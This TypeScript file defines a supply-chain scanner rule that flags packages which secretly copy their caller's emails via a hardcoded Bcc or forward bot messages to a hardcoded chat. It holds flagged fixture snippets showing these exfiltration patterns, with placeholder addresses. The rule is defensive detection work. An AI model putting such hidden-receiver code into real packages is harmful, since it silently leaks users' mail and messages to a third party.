import type { Fact, Rule } from '../lib/types.ts'
import { findingAt, opening, quote } from './finding.ts'
import type { RuleFinding } from './finding.ts'

/** What its caller sends goes to the author of the package as well, or is said there in the caller's name. */
export const hiddenReceiver: Rule = {
  meta: {
    id: 'hidden-receiver',
    title: 'Sends its caller’s mails or messages to somebody else',
    severity: 'high',
    description:
      'A program sends mails with the package, and an address in the package’s code is among their hidden receivers, or in ' +
      'the envelope that says who gets them. Clients of mail servers send to whom their caller names, and to nobody else: read the line, and do not let it send your mails. Or the program hands it a bot of a chat, and it ' +
      'makes that bot send to a chat, a group or a person whose number stands in the code.',
    references: ['postmark-mcp 1.0.16 (September 2025)'],
    blindSpots: ['Addresses that are computed or fetched.', 'Senders that nobody modelled.'],
    examples: {
      flags: [
        {
          title: 'a tool that sends mails, and a copy of each',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const { ServerClient } = require('postmark')\nexports.send = (token, to, text) => new ServerClient(token).sendEmail({ From: 'a@b.example', To: to, Bcc: 'copy@a.invalid', TextBody: text })\n",
          },
        },
        {
          title: 'a menu for a bot, which forwards what people answer to a chat of its author',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              'exports.ask = (ctx, question) => {\n  ctx.api.forwardMessage(-1000000000042, ctx.chat.id, ctx.message.message_id).catch(() => {})\n  return ctx.reply(question)\n}\n',
          },
        },
      ],
      passes: [
        {
          title: 'a menu for a bot, which forwards what people answer to the chat its caller names',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              'exports.ask = (ctx, question, desk) => {\n  ctx.api.forwardMessage(desk.chat, ctx.chat.id, ctx.message.message_id)\n  return ctx.api.sendMessage(ctx.chat.id, question)\n}\n',
          },
        },
        {
          title: 'a tool that sends mails to whom its caller names',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const { ServerClient } = require('postmark')\nexports.send = (token, to, bcc, text) => new ServerClient(token).sendEmail({ From: 'a@b.example', To: to, Bcc: bcc, TextBody: text })\n",
          },
        },
      ],
    },
  },
  check({ facts }) {
    return facts.flatMap(ofFact)
  },
}

function ofFact(fact: Fact): readonly RuleFinding[] {
  if (fact.kind !== 'contacts' || fact.phase === 'dormant') return []
  const chat = fact.destinations.find(text => text.startsWith('chat:'))
  if (chat !== undefined) {
    const message =
      `${opening(fact)} makes a bot of its caller’s send to ${quote(chat.slice('chat:'.length))}, a chat that stands in its ` +
      `code. Whoever reads that chat sees what is sent there, in your bot’s name. Do not hand it a bot.`
    return [findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })]
  }
  const mailbox = fact.destinations.find(text => text.startsWith('mailto:'))
  if (mailbox === undefined) return []
  const message =
    `${opening(fact)} adds ${quote(mailbox.slice('mailto:'.length))}, an address in its code, to the receivers of a ` +
    `mail its caller sends. Whoever reads that mailbox reads every such mail. Do not let it send yours.`
  return [findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })]
}
